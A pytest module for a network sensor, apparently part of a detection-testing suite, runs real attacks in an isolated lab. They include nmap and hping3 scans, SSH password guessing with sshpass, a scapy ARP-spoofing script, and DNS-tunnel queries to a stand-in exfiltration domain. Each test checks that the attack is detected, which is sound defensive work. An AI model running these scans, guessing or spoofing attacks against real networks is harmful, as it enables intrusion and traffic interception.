"""The live attack matrix: real attack tools in the namespace lab, each caught by a sensor.

``netwarden lab up --sites 1 --no-sim --sensors`` (HQ ``jed`` and one field office,
the partner ms-mofa over its VPN: the smallest inventory with a guest zone, servers
with sshd and a DNS resolver, a DMZ and a partner) runs ``netwarden auditor
--interface span0`` on each site's sensor, on the SPAN port the site's fabric
mirrors every frame to. The firewalls keep the lab's base ruleset (forward
everything, count per zone pair): the sensor, not the firewall, is under test.

Each test runs one attack from a client namespace (a guest's, but for the hping3 scan
from staff and the ARP spoof inside the voice zone) with the real tool (nmap, hping3,
ssh with sshpass, dig; the ARP spoof with scapy for an exact count), aimed only at
lab addresses and bounded in packets and time, and waits (bounded) for the event
in HQ's sensor's events file (``<lab>/.lab/sensors/jed-sensor1/events.jsonl``):
detector, site, sensor, source and destination, and the zones where the event has
them. No two attacks that one detector reports share a source (incidents are keyed
by source), so one attack's incident never satisfies another's test. The ``udp_sweep``, ``arp_sweep`` and the dozen-query
``dns_tunnel`` cases expect those detectors' names as issue 18 specifies them.

Root only; skips without root, nftables or one of the tools (``apt-get install
nmap hping3 sshpass``, ``scripts/debian-packages.txt``). One lab for the module,
removed at the end, also when a test fails.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from netwarden.inventory import Inventory, load_inventory
from netwarden.lab.ns.sensors import EVENTS_FILE, SENSORS_DIR, read_events
from netwarden.lab.ns.state import read_state, work_dir
from tests.lab.nslab import in_ns, lab_prefix, ping, sensor_lab

TOOLS = ("nft", "nmap", "hping3", "sshpass", "ssh", "dig")

pytestmark = [
    pytest.mark.lab,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root (network namespaces)"),
    *(
        pytest.mark.skipif(shutil.which(t) is None, reason=f"needs {t} (apt-get install it)")
        for t in TOOLS
    ),
]

SITE = "jed"
SENSOR = "jed-sensor1"
EVENT_WAIT = 20.0  # seconds an event may take to appear (the auditor reads in batches)
GUESSES = 12  # ssh_bruteforce opens at 10 short sessions
DNS_QUERIES = 12

CONNECT = r"""
import socket, sys
src, dst, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
s = socket.socket()
s.settimeout(5)
if src:
    s.bind((src, 0))
try:
    s.connect((dst, port))
    print("connected")
except OSError as exc:
    print("failed:", exc)
finally:
    s.close()
"""

ARP_SPOOF = r"""
import sys
from scapy.layers.l2 import ARP, Ether
from scapy.arch import get_if_hwaddr
from scapy.sendrecv import sendp
gateway, victim, victim_mac, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
me = get_if_hwaddr("eth0")
# "the gateway is-at <me>", unasked, to the victim: the classic poisoning reply
sendp(Ether(src=me, dst=victim_mac) / ARP(op=2, hwsrc=me, psrc=gateway, hwdst=victim_mac,
      pdst=victim), iface="eth0", count=count, inter=0.2, verbose=False)
print(me)
"""


@dataclass(frozen=True)
class Lab:
    path: Path
    inventory: Inventory
    prefix: str
    addresses: dict[str, str]  # client node -> its address

    def ns(self, node: str) -> str:
        state = read_state(self.path)
        assert state is not None
        return state.header.nodes[node].netns

    def mac(self, node: str) -> str:
        done = in_ns(self.ns(node), "cat", "/sys/class/net/eth0/address")
        assert done.returncode == 0, done.stderr
        return done.stdout.strip()

    def server(self, name: str) -> str:
        return str(self.inventory.devices[name].service_address())

    def events(self) -> list[dict[str, Any]]:
        return read_events(work_dir(self.path) / SENSORS_DIR / SENSOR / EVENTS_FILE)


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    base = tmp_path_factory.mktemp(f"attacks{os.getpid()}")
    path = base / "lab"
    with sensor_lab(path, base / "cli.log") as state:
        addresses = {
            name: node.addresses[0].split("/")[0]
            for name, node in state.header.nodes.items()
            if node.kind == "client" and node.addresses
        }
        yield Lab(path, load_inventory(path), lab_prefix(path), addresses)


def wait_event(lab: Lab, what: str, match: Callable[[dict[str, Any]], bool]) -> dict[str, Any]:
    """The first event of HQ's sensor ``match`` accepts, waiting at most EVENT_WAIT s."""
    deadline = time.monotonic() + EVENT_WAIT
    while True:
        events = lab.events()
        found = [e for e in events if match(e)]
        if found:
            return found[0]
        if time.monotonic() >= deadline:
            seen = sorted({(e["detector"], e["src"], e["dst"]) for e in events})
            raise AssertionError(f"{what}: no such event from {SENSOR} in {EVENT_WAIT:g} s; "
                                 f"its events (detector, src, dst): {seen}")  # fmt: skip
        time.sleep(0.3)


def of(detector: str, src: str, dst: str | None = None) -> Callable[[dict[str, Any]], bool]:
    def match(event: dict[str, Any]) -> bool:
        return bool(
            event["detector"] == detector
            and event["src"] == src
            and (dst is None or event["dst"] == dst)
            and event["site"] == SITE
            and event["sensor"] == SENSOR
        )

    return match


def run(lab: Lab, node: str, *argv: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """``argv`` in ``node``'s namespace, bounded by ``timeout`` (the tool's own bounds first)."""
    return in_ns(lab.ns(node), "timeout", str(int(timeout)), *argv, timeout=timeout + 10)


def test_auditors_run_on_every_sensor(lab: Lab) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "netwarden.cli", "lab", "status", str(lab.path), "--json"],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    status = json.loads(done.stdout)
    assert {(a["sensor"], a["site"], a["running"]) for a in status["auditors"]} == {
        ("jed-sensor1", "jed", True),
        ("fo001-sensor1", "fo001", True),
    }


def test_nmap_tcp_syn_scan(lab: Lab) -> None:
    attacker, target = "jed-guests-c1", lab.server("jed-file1")
    done = run(lab, attacker, "nmap", "-n", "-Pn", "-sS", "-p", "1-300", "--max-rate", "1000",
               "--max-retries", "1", target)  # fmt: skip
    assert done.returncode == 0, done.stderr
    event = wait_event(lab, "nmap -sS", of("port_scan", lab.addresses[attacker], target))
    assert event["count"] >= 100


def test_nmap_udp_sweep(lab: Lab) -> None:
    """One UDP port (one nmap sends no payload to) on 100 addresses of HQ's servers zone."""
    attacker = "jed-guests-c1"
    first = lab.inventory.sites[SITE].zones["servers"].subnet.network_address + 100
    sweep = f"{first}-{int(str(first).rsplit('.', 1)[1]) + 99}"  # nmap's a.b.c.100-199
    done = run(lab, attacker, "nmap", "-n", "-Pn", "-sU", "-p", "40125", "--max-rate", "200",
               "--max-retries", "0", "--max-rtt-timeout", "200ms", "--min-hostgroup", "100",
               sweep)  # fmt: skip
    assert done.returncode == 0, done.stderr
    wait_event(lab, "nmap -sU sweep", of("udp_sweep", lab.addresses[attacker]))


def test_nmap_arp_sweep(lab: Lab) -> None:
    """Who-has for every address of the attacker's own /24 (HQ's guests zone), in seconds."""
    attacker = "jed-guests-c1"
    subnet = lab.inventory.sites[SITE].zones["guests"].subnet
    done = run(lab, attacker, "nmap", "-n", "-sn", "-PR", "--max-rate", "1000", str(subnet))
    assert done.returncode == 0, done.stderr
    mac = lab.mac(attacker)
    # the sweeper named by its address or, ARP being layer 2, its MAC
    wait_event(lab, "nmap -sn -PR", lambda e: of("arp_sweep", lab.addresses[attacker])(e)
               or of("arp_sweep", mac)(e))  # fmt: skip


def test_hping3_syn_scan(lab: Lab) -> None:
    """From a staff client: nmap's scan from guests-c1 is a port_scan incident of its own."""
    attacker, target = "jed-staff-c1", lab.server("jed-file1")
    # 40 SYNs to ports 1000..1039 (++: one more each), 20 ms apart
    done = run(lab, attacker, "hping3", "-S", "-p", "++1000", "-c", "40", "-i", "u20000", target)
    assert "40 packets transmitted" in done.stdout + done.stderr, done.stdout + done.stderr
    event = wait_event(lab, "hping3 -S", of("port_scan", lab.addresses[attacker], target))
    assert event["count"] >= 10


def test_ssh_password_guessing(lab: Lab) -> None:
    """GUESSES wrong passwords against HQ's DNS server's real sshd (one session each)."""
    attacker, target = "jed-guests-c1", lab.server("jed-dns1")
    for _ in range(GUESSES):
        done = run(
            lab, attacker, "sshpass", "-p", secrets.token_hex(8),
            "ssh", "-F", "/dev/null", "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no",
            "-o", "PreferredAuthentications=password,keyboard-interactive",
            "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=5",
            f"netwarden@{target}", "true",
            timeout=20,
        )  # fmt: skip
        assert done.returncode != 0  # refused, never logged in
    event = wait_event(lab, "ssh guessing", of("ssh_bruteforce", lab.addresses[attacker], target))
    assert event["count"] >= 10


def test_arp_spoof(lab: Lab) -> None:
    """voice-c1 tells voice-c2, five times, unasked, that the voice gateway is at its MAC."""
    attacker, victim = "jed-voice-c1", "jed-voice-c2"
    gateway = str(lab.inventory.sites[SITE].zones["voice"].gateway)
    assert ping(lab.ns(victim), gateway)  # the victim learns the real binding first
    done = in_ns(lab.ns(attacker), sys.executable, "-c", ARP_SPOOF, gateway,
                 lab.addresses[victim], lab.mac(victim), "5", timeout=60)  # fmt: skip
    assert done.returncode == 0, done.stderr
    mac = done.stdout.strip()
    event = wait_event(lab, "ARP spoof", of("arp_spoof", mac))
    assert event["evidence"]["ip"] == gateway


def test_dns_tunnel(lab: Lab) -> None:
    """A dozen TXT/MX/CNAME queries, about one a second, of 40 hex characters under one domain."""
    attacker, resolver = "jed-guests-c1", lab.server("jed-dns1")
    kinds = ("TXT", "MX", "CNAME")
    for n in range(DNS_QUERIES):
        name = f"{secrets.token_hex(20)}.t.exfil-lab.example"
        run(lab, attacker, "dig", "+tries=1", "+time=1", f"@{resolver}", name, kinds[n % 3],
            timeout=10)  # fmt: skip
        time.sleep(1.0)
    event = wait_event(lab, "DNS tunnel", of("dns_tunnel", lab.addresses[attacker]))
    assert event["evidence"]["domain"] == "exfil-lab.example"


def test_forbidden_zone_crossing(lab: Lab) -> None:
    """guests -> servers on smb (tcp/445, one of probeplan.FORBIDDEN_PORTS)."""
    # guests-c1 scans the servers too: the other guest, so that the incident is this one's
    attacker, target = "jed-guests-c2", lab.server("jed-file1")
    done = in_ns(lab.ns(attacker), sys.executable, "-c", CONNECT, "", target, "445")
    assert done.returncode == 0, done.stderr
    event = wait_event(lab, "guests -> servers", of("policy_violation", lab.addresses[attacker]))
    assert event["evidence"]["src_zone"] == f"{SITE}/guests"
    assert event["evidence"]["dst_zone"] == f"{SITE}/servers"
    assert event["dst"] == target


def test_partner_reaches_unpublished_service(lab: Lab) -> None:
    """ms-mofa's LAN, over its VPN, to ssh on HQ's web server (only https is published)."""
    partner = lab.inventory.partners["ms-mofa"]
    source = str(next(partner.networks[0].hosts()))
    target = lab.server("jed-web1")
    done = in_ns(lab.ns("ms-mofa"), sys.executable, "-c", CONNECT, source, target, "22")
    assert done.returncode == 0, done.stderr
    event = wait_event(lab, "partner -> dmz ssh", of("policy_violation", source, target))
    assert event["evidence"]["src_zone"] == f"{SITE}/partners"
    assert event["evidence"]["dst_zone"] == f"{SITE}/dmz"
